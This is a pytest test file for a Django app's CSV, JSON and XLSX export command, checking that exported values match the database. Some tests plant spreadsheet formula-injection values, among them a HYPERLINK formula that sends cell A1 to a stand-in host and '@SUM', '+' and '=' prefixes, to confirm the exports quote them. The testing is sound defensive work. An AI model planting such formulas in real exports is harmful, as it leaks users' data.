"""`udsyn export` and udsyn.reports.exports: every record type as CSV, JSON and XLSX, values equal to the database."""

import csv
import datetime as dt
import json
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from udsyn.demo.loader import load_demo
from udsyn.memberships.models import Membership
from udsyn.projects.models import Project
from udsyn.reports import exports


@pytest.fixture(autouse=True)
def fast_password_hashing(settings):
    # The demo creates four login users; PBKDF2 would spend a second of every test on them.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]

@pytest.fixture
def demo(db):
    load_demo()


def membership_row(table, organisation, department):
    headers, rows = table
    for row in rows:
        record = dict(zip(headers, row, strict=True))
        if record["Organisation"] == organisation and record["Department"] == department:
            return record
    raise AssertionError(f"no row for {organisation}")


@pytest.mark.django_db
def test_export_rows_give_python_values_with_readable_names(demo):
    table = exports.export_rows("memberships")
    string = membership_row(table, "STRING", "Økonomiforvaltningen")
    db = Membership.objects.get(organisation__name="STRING")
    assert string["ID"] == db.pk
    assert string["Annual fee"] == Decimal("500000.00") and string["Currency"] == "DKK"
    assert string["Municipality"] == "Københavns Kommune"
    assert string["Representatives"] == "Mikkel Sørensen" and string["Contact"] == "Ida Krogh"
    assert len(table[1]) == Membership.objects.count()
    assert exports.export_rows(Membership, Membership.objects.filter(pk=db.pk))[1][0][0] == db.pk


@pytest.mark.django_db
def test_every_record_type_exports(demo):
    for key in exports.record_types():
        headers, rows = exports.export_rows(key)
        assert headers and rows, key
        assert all(len(row) == len(headers) for row in rows)
    with pytest.raises(ValueError, match="Unknown record type"):
        exports.export_rows("nonsense")


@pytest.mark.django_db
def test_csv_directory_one_file_per_type(demo, tmp_path):
    call_command("export", "--format", "csv", "-o", str(tmp_path / "out"), stderr=StringIO())
    assert {p.stem for p in (tmp_path / "out").iterdir()} == set(exports.record_types())
    with (tmp_path / "out" / "projects.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == Project.objects.count()
    atelier = next(r for r in rows if r["Name"] == "ATELIER")
    db = Project.objects.get(name="ATELIER")
    assert Decimal(atelier["External funding"]) == db.external_funding == Decimal("665462.50")
    assert atelier["External funding"] == "665462.50" and atelier["Currency"] == "EUR"
    assert atelier["Start"] == "2019-11-01" and atelier["Programme"] == "Horizon 2020"
    assert atelier["Department"] == "Teknik- og Miljøforvaltningen"


@pytest.mark.django_db
def test_csv_of_one_type_to_a_file_and_to_stdout(demo, tmp_path):
    path = tmp_path / "m.csv"
    call_command("export", "--format", "csv", "--type", "memberships", "-o", str(path), stderr=StringIO())
    with path.open(encoding="utf-8-sig", newline="") as f:
        assert len(list(csv.DictReader(f))) == Membership.objects.count()
    out = StringIO()
    call_command("export", "--format", "csv", "--type", "partners", stdout=out, stderr=StringIO())
    rows = list(csv.DictReader(StringIO(out.getvalue())))
    beijing = next(r for r in rows if r["City"] == "Beijing" and r["Kind"] == "sister_city")
    assert (beijing["Country"], beijing["Signed"]) == ("CN", "2012-01-01")
    assert Decimal(beijing["Latitude"]) > 39


@pytest.mark.django_db
def test_json_is_one_object_keyed_by_type(demo, tmp_path):
    path = tmp_path / "all.json"
    call_command("export", "--format", "json", "-o", str(path), stderr=StringIO())
    data = json.loads(path.read_text(encoding="utf-8"))
    assert list(data) == exports.record_types()
    gceu = next(m for m in data["memberships"] if m["Organisation"] == "Greater Copenhagen EU Office")
    assert gceu["Annual fee"] == "1300000.00"  # a string, so no reader turns it into a float
    assert Decimal(gceu["Annual fee"]) == Membership.objects.get(pk=gceu["ID"]).annual_fee
    visits = data["visits"]
    assert all(dt.date.fromisoformat(v["Start"]) for v in visits)


@pytest.mark.django_db
def test_xlsx_has_one_sheet_per_type_with_numbers_and_dates(demo, tmp_path):
    path = tmp_path / "all.xlsx"
    call_command("export", "--format", "xlsx", "--type", "all", "-o", str(path), stderr=StringIO())
    workbook = load_workbook(path)
    assert workbook.sheetnames == exports.record_types()
    sheet = workbook["projects"]
    headers = [c.value for c in sheet[1]]
    rows = [dict(zip(headers, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(rows) == Project.objects.count()
    for row in rows:
        db = Project.objects.get(pk=row["ID"])
        for header, field in [("Total budget", "total_budget"), ("Share", "municipality_share"),
                              ("External funding", "external_funding")]:
            value = getattr(db, field)
            assert (row[header] is None) if value is None else Decimal(repr(row[header])) == value
        assert (row["Start"].date() if row["Start"] else None) == db.start
        assert row["Name"] == db.name and row["Currency"] == db.budget_currency


@pytest.mark.django_db
def test_unknown_type_and_xlsx_without_file_are_clear_errors(demo):
    with pytest.raises(CommandError, match="Unknown record type boats"):
        call_command("export", "--format", "csv", "--type", "boats")
    with pytest.raises(CommandError, match="XLSX needs a file"):
        call_command("export", "--format", "xlsx")


@pytest.mark.django_db
def test_xlsx_export_round_trips_into_an_empty_register(tmp_path):
    from udsyn.organisations.models import City, Organisation, Person
    from udsyn.partners.models import Partner
    from udsyn.strategies.models import Strategy
    from udsyn.visits.models import Event, Visit

    load_demo()
    path = tmp_path / "register.xlsx"
    exports.write_xlsx(exports.export_tables(["memberships", "projects"]), path)

    def comparable(key):
        headers, rows = exports.export_rows(key)
        keep = [i for i, h in enumerate(headers) if h not in (exports.ID, exports.SOURCE, exports.VERSION)]
        return sorted(tuple(row[i] for i in keep) for row in rows)

    before = {key: comparable(key) for key in ("memberships", "projects")}
    for model in (Event, Visit, Partner, Membership, Project, Strategy, Person, Organisation, City):
        model.objects.all().delete()
    assert Membership.objects.count() == Project.objects.count() == Organisation.objects.count() == 0

    for key in ("memberships", "projects"):
        call_command("import_sheet", str(path), "--type", key, "--department", "Økonomiforvaltningen",
                     stdout=StringIO())
    assert {key: comparable(key) for key in ("memberships", "projects")} == before
    assert set(Membership.objects.values_list("source_kind", flat=True)) == {"sheet"}


PROJECT_HEADERS = ["ID", "Municipality", "Department", "Name", "Acronym", "Programme", "Role", "Lead partner",
                   "Partners", "Status", "Start", "End", "Total budget", "Share", "External funding", "Currency",
                   "Description", "Source", "Version"]


@pytest.mark.django_db
def test_csv_and_xlsx_of_projects_hold_the_same_columns_and_cells(demo, tmp_path):
    """The two files of one export agree cell by cell, in the columns the sheet import reads; a name that a spreadsheet
    would run as a formula is quoted in both, and dates and money stay dates and numbers in the workbook."""
    db = Project.objects.get(name="ATELIER")
    Project.objects.filter(pk=db.pk).update(name='=HYPERLINK("http://x/?"&A1)')
    call_command("export", "--format", "csv", "--type", "projects", "-o", str(tmp_path / "p.csv"), stderr=StringIO())
    call_command("export", "--format", "xlsx", "--type", "projects", "-o", str(tmp_path / "p.xlsx"),
                 stderr=StringIO())
    with (tmp_path / "p.csv").open(encoding="utf-8-sig", newline="") as f:
        text = list(csv.reader(f))
    sheet = load_workbook(tmp_path / "p.xlsx")["projects"]
    cells = list(sheet.iter_rows(values_only=True))
    assert text[0] == list(cells[0]) == PROJECT_HEADERS
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
    assert len(text) == len(cells) == Project.objects.count() + 1

    def as_text(value):
        if isinstance(value, dt.datetime):
            return value.date().isoformat()
        if isinstance(value, float):
            return f"{value:.2f}"
        return "" if value is None else str(value)

    money = {PROJECT_HEADERS.index(h) for h in ("Total budget", "Share", "External funding")}
    for line, row in zip(text[1:], cells[1:], strict=True):
        assert [v if i not in money or not v else f"{Decimal(v):.2f}" for i, v in enumerate(line)] == \
            [as_text(v) for v in row]
    atelier = next(r for r in cells if r[0] == db.pk)
    assert atelier[PROJECT_HEADERS.index("Name")] == "'" + '=HYPERLINK("http://x/?"&A1)'
    assert atelier[PROJECT_HEADERS.index("Start")] == dt.datetime(2019, 11, 1)
    assert Decimal(str(atelier[PROJECT_HEADERS.index("External funding")])) == db.external_funding
    assert sheet.cell(row=cells.index(atelier) + 1, column=PROJECT_HEADERS.index("External funding") + 1) \
        .number_format == "#,##0.00"


@pytest.mark.django_db
def test_postgresql_copy_writes_the_same_bytes_as_the_rows(demo):
    """`udsyn export --format csv` on PostgreSQL has the database write the CSV (COPY, exports.copy_csv): for every
    record type, whole and narrowed to one municipality, the very bytes write_csv writes from the rows."""
    from django.db import connection

    from udsyn.core.registry import UnscopedModel, in_municipalities
    from udsyn.organisations.models import Municipality

    if connection.vendor != "postgresql":
        assert exports.copy_csv("projects", StringIO()) is None
        return
    Project.objects.filter(pk=Project.objects.order_by("pk").first().pk).update(name="@SUM(1+1)", acronym="-x")
    # Every formula character, a first letter beyond ASCII and empty text (the SQL tests the first character's code).
    for project, (name, acronym) in zip(Project.objects.order_by("pk")[1:4],
                                        [("\tTab", "+1"), ("\rCR", ""), ("Ørsted =1", "=")], strict=True):
        Project.objects.filter(pk=project.pk).update(name=name, acronym=acronym)
    municipality = Municipality.objects.order_by("pk").first()
    for key in exports.record_types():
        model = exports.record_type_for(key).model
        try:
            narrowed = in_municipalities(model._default_manager.all(), [municipality.pk])
        except UnscopedModel:
            narrowed = None
        for queryset in (None, narrowed):
            copied, rows = StringIO(), StringIO()
            assert exports.copy_csv(key, copied, queryset) == len(exports.export_rows(key, queryset)[1])
            exports.write_csv(*exports.stream_rows(key, queryset), rows)
            assert copied.getvalue() == rows.getvalue(), key
    copied = StringIO()
    exports.copy_csv("projects", copied)
    assert '"\'@SUM(1+1)","\'-x"' in copied.getvalue()
    # A selection that can hold no row (no municipality) has no SQL to copy: the row path writes the headings alone.
    assert exports.copy_csv("projects", StringIO(), in_municipalities(Project.objects.all(), [])) is None


@pytest.mark.django_db
def test_postgresql_writes_the_same_worksheets_as_the_rows(demo, tmp_path):
    """`udsyn export --format xlsx` on PostgreSQL has the database write each row's XML (exports.xlsx_rows): for every
    record type the worksheet is the very XML written from the rows in Python, text that XML cannot hold left out."""
    import zipfile

    from django.db import connection

    if connection.vendor != "postgresql":
        assert exports.xlsx_rows("projects") is None
        return
    Project.objects.filter(pk=Project.objects.order_by("pk").first().pk).update(
        name="=A1 & <b>\x01\x0b", description="line\r\nnext\tcol \\ back\ufffe")
    for key in exports.record_types():
        python, database = tmp_path / f"{key}-python.xlsx", tmp_path / f"{key}-database.xlsx"
        exports.write_xlsx(exports.export_tables([key], stream=True), python)
        exports.write_xlsx(exports.export_tables([key], stream=True), database, made={key: exports.xlsx_rows(key)})
        sheets = [zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml") for path in (python, database)]
        assert sheets[0] == sheets[1], key
    row = next(r for r in load_workbook(database.with_name("projects-database.xlsx"))["projects"].iter_rows(
        min_row=2, values_only=True) if r[0] == Project.objects.order_by("pk").first().pk)
    assert row[3] == "'=A1 & <b>" and row[16] == "line\r\nnext\tcol \\ back"
